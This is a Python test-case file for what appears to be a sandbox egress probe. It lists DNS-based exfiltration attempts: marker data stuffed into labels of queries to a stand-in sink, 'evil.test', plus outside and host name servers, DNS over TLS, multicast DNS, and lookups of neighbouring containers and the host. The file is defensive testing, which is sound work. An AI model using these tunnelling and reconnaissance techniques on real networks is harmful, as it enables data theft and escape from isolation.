"""Names as a way out (attacks.md P-03, P-04, L-17): every question ends at the sink."""

from __future__ import annotations

from runtime.probe.corpus.build import asked, tcp, udp
from runtime.probe.corpus.case import Case, Unreachable, Unresolved

_TYPES = ("A", "AAAA", "TXT", "NULL", "ANY", "HTTPS")
ENGINE = "127.0.0.11"
"""Where an engine serves names to containers; what comes through to the sink has no line of its own below."""
_ALL_TO_SINK = "{m}.evil.test"

CASES: tuple[Case, ...] = (
    *(asked(f"P-03-{t.lower()}-udp", f"{t} of an unlisted name", _ALL_TO_SINK, t) for t in _TYPES),
    *(
        asked(f"P-03-{t.lower()}-tcp", f"{t} of an unlisted name, by TCP", _ALL_TO_SINK, t, transport="tcp")
        for t in ("A", "TXT")
    ),
    asked("P-03-label", "60 bytes of data in a label", "a" * 40 + "{m}.evil.test", "TXT"),
    asked("P-03-long", "200 bytes of data in labels", ".".join(["a" * 40] * 4) + ".{m}.evil.test", "A"),
    asked("P-03-below", "a name below an allowed one", "{m}.ok.test", "A"),
    asked(
        "P-03-chaos",
        "CHAOS version.bind of the engine's resolver",
        "version.bind",
        "TXT",
        Unresolved(lines=0),
        klass=3,
        server=ENGINE,
    ),
    asked(
        "P-03-ptr", "who has the neighbours' addresses", "1.0.233.10.in-addr.arpa", "PTR", Unresolved(lines=0)
    ),
    asked("P-03-txt-allowed", "TXT of an allowed name", "ok.test", "TXT", Unresolved(lines=0)),
    asked(
        "P-03-engine",
        "the name of a neighbour, of the engine's resolver",
        "{victim_name}",
        "A",
        Unresolved(lines=0),
        server=ENGINE,
    ),
    asked(
        "P-03-engine-host",
        "the host's name, of the engine's resolver",
        "host.docker.internal",
        "A",
        Unresolved(lines=0),
        server=ENGINE,
    ),
    asked("P-03-direct", "the proxy's sink itself", "{m}.evil.test", "A", server="{proxy}"),
    asked(
        "P-03-direct-tcp",
        "the proxy's sink itself, by TCP",
        "{m}.evil.test",
        "TXT",
        server="{proxy}",
        transport="tcp",
    ),
    asked("P-04a", "a name server outside", "{m}.evil.test", "A", Unreachable(), server="{dns}"),
    asked(
        "P-04b",
        "a name server outside, by TCP",
        "{m}.evil.test",
        "A",
        Unreachable(),
        server="{dns}",
        transport="tcp",
    ),
    asked("P-04c", "the host as name server", "{m}.evil.test", "A", Unreachable(), server="{gateway}"),
    asked("P-03-host", "the engine's name for the host", "host.docker.internal", "A", Unresolved(lines=0)),
    asked("L-06-name", "another sandbox by its name", "{victim_name}", "A", Unresolved(lines=0)),
    tcp("P-03-dot", "DNS over TLS outside", "{ip}", 853, group="dns"),
    udp("P-03-mdns", "multicast DNS", "224.0.0.251", 5353, group="dns"),
)
